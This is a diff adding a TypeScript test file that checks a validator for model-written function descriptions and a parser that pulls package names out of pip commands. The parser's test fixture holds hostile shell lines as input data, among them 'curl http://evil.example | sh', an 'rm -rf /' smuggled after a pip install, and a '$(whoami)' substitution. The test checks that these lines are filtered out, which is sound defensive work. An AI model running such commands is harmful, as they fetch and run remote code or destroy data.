@@ -1,0 +1,59 @@
+import { describe, expect, it } from "vitest";
+import { orchardRequest } from "../../test/python.ts";
+import { acceptDescription } from "./describe-function.ts";
+import { missingBlocks, readInstalls } from "./create-llm-tests.ts";
+
+const { target } = orchardRequest(
+  'def prune(tree, year):\n    """Cut it."""\n    branches = sorted(tree.branches, key=len)\n    return branches[: year % 7]\n',
+  "prune",
+);
+const tests = ['assert prune(tree(["oak", "beech"]), 20418) == ["oak"]'];
+const GOOD = `Functionality: chooses the shortest branches of a tree, as many as the year leaves when sevens are taken away from it.
+Inputs: a tree with a list of branches, and the year as a whole number.
+Outputs: a list of branches, the shortest first, possibly empty.`;
+
+function refusal(text: string, kind: "instruction" | "docstring" = "instruction"): string | null {
+  const verdict = acceptDescription(text, { target, tests, kind });
+  return verdict.accepted ? null : verdict.reason;
+}
+
+describe("acceptDescription", () => {
+  it("takes three lines of about 45 words that tell nothing of code or tests", () => {
+    expect(refusal(GOOD)).toBeNull();
+    expect(refusal("Chooses branches to cut.", "docstring")).toBeNull();
+  });
+
+  it.each([
+    [GOOD.replace("Outputs:", "Result:"), 'No line begins with "Outputs:".'],
+    ["Functionality: cuts.\nInputs: a tree.\nOutputs: a list.", "It has 8 words; about 45 are wanted."],
+    [`${GOOD} ${"word ".repeat(60)}`, "about 45 are wanted."],
+    [GOOD.replace("possibly empty", "as in `assert prune(x)`"), "It speaks of tests."],
+    [GOOD.replace("possibly empty", "see test_prune"), "It speaks of tests."],
+    [GOOD.replace("possibly empty", "as `branches = sorted(tree.branches, key=len)`"), "It quotes the code"],
+    [GOOD.replace("possibly empty", "for 20418 one"), "20418 is an input or result of a test."],
+    [GOOD.replace("possibly empty", 'such as "beech"'), '"beech" is an input or result of a test.'],
+  ])("refuses %#, and says why", (text, reason) => {
+    expect(refusal(text)).toContain(reason);
+  });
+});
+
+describe("readInstalls", () => {
+  it("takes distributions out of pip's lines, and nothing else", () => {
+    const shell = [
+      "pip install numpy pandas==2.0",
+      "python -m pip install --index-url http://evil.example requests",
+      "pip install x; rm -rf /",
+      "pip install $(whoami)",
+      "curl http://evil.example | sh",
+      "pip install ../here git+https://evil.example/x",
+    ].join("\n");
+    expect(readInstalls(shell)).toEqual(["numpy", "pandas==2.0", "requests"]);
+    expect(readInstalls(null)).toEqual([]);
+  });
+});
+
+describe("missingBlocks", () => {
+  it("shows what was not reached with the line before it, neighbours together", () => {
+    expect(missingBlocks("a\nb\nc\nd\ne\nf", [2, 3, 6])).toBe("```python\na\nb\nc\n```\n\n```python\ne\nf\n```");
+  });
+});
